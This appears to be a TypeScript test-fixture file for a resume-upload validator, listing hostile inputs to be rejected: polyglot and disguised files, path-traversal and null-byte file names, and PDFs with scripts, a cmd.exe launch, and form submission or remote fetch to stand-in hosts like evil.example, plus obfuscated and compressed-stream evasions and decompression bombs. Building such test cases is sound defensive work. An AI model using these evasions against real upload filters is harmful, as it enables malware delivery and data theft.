import { deflateSync } from 'node:zlib'
import type { ResumeClaim } from '@/lib/leads/resume'
import { RESUME_MAX_BYTES } from '@/lib/leads/resume'
import { buildDocx, buildPdf, buildZip } from './files'

/** What it is, the file, and what is said about it. */
export type ResumeCase = [what: string, bytes: Buffer, claim: ResumeClaim]

const PDF = 'application/pdf'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
export const pdfClaim = { name: 'resume.pdf', type: PDF }
export const docxClaim = { name: 'resume.docx', type: DOCX }
/** A sound PDF of exactly so many bytes. */
export const growPdf = (size: number) => buildPdf({ extra: '%'.repeat(size - buildPdf().length) })

/** An object with a packed stream. */
export function packStream(content: string, dictionary: string): string {
  const packed = deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
  return `4 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`
}

export const OBJECTS = '/Type /ObjStm /N 1 /First 4'
const SCRIPT = '1 0 << /S /#4aavaScript >>'
/** A PDF whose objects stand packed in a stream; `more` stands in its dictionary. */
export const packObjects = (objects: string, more = '') =>
  buildPdf({ extra: packStream(objects, `${OBJECTS} ${more}`) })

/** A zip whose comment is the end of a PDF: each reader finds its own kind of file. */
function buildTwoInOne(): Buffer {
  const pdf = buildPdf()
  const zip = buildZip([{ name: 'run.jar', content: 'x' }])
  const tail = pdf.subarray(9)
  const joined = Buffer.concat([pdf.subarray(0, 9), zip, tail])
  joined.writeUInt16LE(tail.length, 9 + zip.length - 2)
  return joined
}

/** Files that call themselves PDF, or are one and bring something along. */
export const hostilePdfs: ResumeCase[] = [
  ['nothing', Buffer.alloc(0), pdfClaim],
  ['a byte too many', growPdf(RESUME_MAX_BYTES + 1), pdfClaim],
  ['a program named PDF', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), pdfClaim],
  ['a page named PDF', Buffer.from(`<html><script>alert(1)</script>${' '.repeat(100)}`), pdfClaim],
  [
    'an old .doc',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    { name: 'cv.doc', type: 'application/msword' },
  ],
  ['a PDF named .doc', buildPdf(), { name: 'resume.doc', type: PDF }],
  ['a PDF named .docx', buildPdf(), { name: 'resume.docx', type: PDF }],
  ['a PDF declared as Word', buildPdf(), { name: 'resume.pdf', type: DOCX }],
  ['a PDF declared as a page', buildPdf(), { name: 'resume.pdf', type: 'text/html' }],
  ['a PDF named .pdf.exe', buildPdf(), { name: 'resume.pdf.exe', type: PDF }],
  ['a name that climbs', buildPdf(), { name: '../../etc/cron.d/x.pdf', type: PDF }],
  ['a name with a backslash', buildPdf(), { name: '..\\x.pdf', type: PDF }],
  ['a name with a line break', buildPdf(), { name: 'a\r\nb.pdf', type: PDF }],
  ['a name that turns around', buildPdf(), { name: 'resume\u202Exe.pdf', type: PDF }],
  ['a PDF without its end', buildPdf({ end: '' }), pdfClaim],
  [
    'a PDF with a file behind it',
    Buffer.concat([buildPdf(), buildZip([{ name: 'a.exe', content: 'MZ' }])]),
    pdfClaim,
  ],
  ['a PDF that does not start as one', Buffer.concat([Buffer.from('\n'), buildPdf()]), pdfClaim],
  ['a PDF with a script', buildPdf({ extra: '<< /S /JavaScript /JS (app.alert(1)) >>' }), pdfClaim],
  ['a PDF with a disguised script', buildPdf({ extra: '<< /S /J#61vaScript >>' }), pdfClaim],
  ['a PDF that starts a program', buildPdf({ extra: '<< /S /Launch /F (cmd.exe) >>' }), pdfClaim],
  ['a PDF with an attachment', buildPdf({ extra: '<< /Names << /EmbeddedFiles 4 0 R >> >>' }), pdfClaim],
  ['a PDF with a password', buildPdf({ extra: '<< /Encrypt 5 0 R >>' }), pdfClaim],
  ['a PDF 2 MB long', growPdf(2 * RESUME_MAX_BYTES), pdfClaim],
  ['a name with a zero byte', buildPdf(), { name: 'resume.pdf\0.exe', type: PDF }],
  ['a name with a zero byte before its ending', buildPdf(), { name: 'resume.exe\0.pdf', type: PDF }],
  ['a name that ends in a point', buildPdf(), { name: 'resume.pdf.', type: PDF }],
  ['a name that ends in a space', buildPdf(), { name: 'resume.pdf ', type: PDF }],
  ['a name in wide letters', buildPdf(), { name: 'resume\uFF0Epdf', type: PDF }],
  ['a name with a hidden stream', buildPdf(), { name: 'resume.exe:x.pdf', type: PDF }],
  ['a hidden name', buildPdf(), { name: '.pdf', type: PDF }],
  ['an endless name', buildPdf(), { name: `${'a'.repeat(197)}.pdf`, type: PDF }],
  ['a PDF declared as a script', buildPdf(), { name: 'resume.pdf', type: 'text/javascript' }],
  ['a PDF declared as any bytes', buildPdf(), { name: 'resume.pdf', type: 'application/octet-stream' }],
  ['a picture named PDF', Buffer.from(`GIF89a${'\0'.repeat(200)}`), pdfClaim],
  ['a picture that goes on as a PDF', Buffer.concat([Buffer.from('GIF89a'), buildPdf()]), pdfClaim],
  ['a page that goes on as a PDF', Buffer.concat([Buffer.from('<html>'), buildPdf()]), pdfClaim],
  ['a PDF that is a zip as well', buildTwoInOne(), pdfClaim],
  ['a PDF of no known version', buildPdf({ header: '%PDF-9.9' }), pdfClaim],
  ['a PDF that is cut off', buildPdf().subarray(0, 150), pdfClaim],
  ['a PDF that says nothing', Buffer.from(`%PDF-1.7\n${' '.repeat(100)}startxref\n9\n%%EOF\n`), pdfClaim],
  [
    'a PDF that acts when opened',
    buildPdf({ extra: '/OpenAction << /S /JavaScript /JS 5 0 R >>' }),
    pdfClaim,
  ],
  [
    'a PDF that fetches when opened',
    buildPdf({ extra: '/AA << /O << /S /GoToR /F (\\\\evil\\x) >> >>' }),
    pdfClaim,
  ],
  ['a PDF that opens another inside', buildPdf({ extra: '<< /S /GoToE /T 5 0 R >>' }), pdfClaim],
  ['a PDF that sends a form', buildPdf({ extra: '<< /S /SubmitForm /F (http://evil.example) >>' }), pdfClaim],
  ['a PDF that imports data', buildPdf({ extra: '<< /S /ImportData /F (x) >>' }), pdfClaim],
  ['a PDF with a film', buildPdf({ extra: '<< /Subtype /RichMedia >>' }), pdfClaim],
  ['a PDF with a form of scripts', buildPdf({ extra: '<< /AcroForm << /XFA 5 0 R >> >>' }), pdfClaim],
  [
    'a PDF with a script between the words of a stream',
    buildPdf({ extra: '% stream\n<< /S /JavaScript >>\n% endstream' }),
    pdfClaim,
  ],
  ['a PDF with a packed script', packObjects('1 0 << /S /JavaScript /JS (app.alert(1)) >>'), pdfClaim],
  ['a PDF with a packed and disguised script', packObjects(SCRIPT), pdfClaim],
  ['a PDF with a packed script after long words', packObjects(SCRIPT, ' '.repeat(5000)), pdfClaim],
  ['a PDF with a packed script after misleading words', packObjects(SCRIPT, '/A (0 obj)'), pdfClaim],
  [
    'a PDF with a script in disguised packing',
    buildPdf({ extra: packStream(SCRIPT, '/Type /Obj#53tm /N 1 /First 4') }),
    pdfClaim,
  ],
  ['a PDF with a script of no kind', buildPdf({ extra: '<< /JS (app.alert(1)) >>' }), pdfClaim],
  ['a PDF with a packed script of no kind', packObjects('1 0 << /JS (app.alert(1)) >>'), pdfClaim],
  [
    'a PDF of endless packed objects',
    buildPdf({ extra: packStream('1 0 <<>>', OBJECTS).repeat(1001) }),
    pdfClaim,
  ],
  [
    'a PDF with objects packed so that nobody can look',
    buildPdf({ extra: '4 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nabc\nendstream\nendobj' }),
    pdfClaim,
  ],
  [
    'a PDF with objects packed as differences',
    packObjects('1 0 << /Type /Font >>', '/DecodeParms << /Predictor 12 /Columns 4 >>'),
    pdfClaim,
  ],
  [
    'a PDF with objects packed as differences, in short',
    packObjects('1 0 << /Type /Font >>', '/DP << /Predictor 12 /Columns 4 >>'),
    pdfClaim,
  ],
  ['a PDF of endless streams', buildPdf({ extra: 'stream\n\nendstream\n'.repeat(4001) }), pdfClaim],
  ['a PDF with a bomb of objects', packObjects(' '.repeat(9 * 1_048_576)), pdfClaim],
  ['a Word document named PDF', buildDocx(), pdfClaim],
]
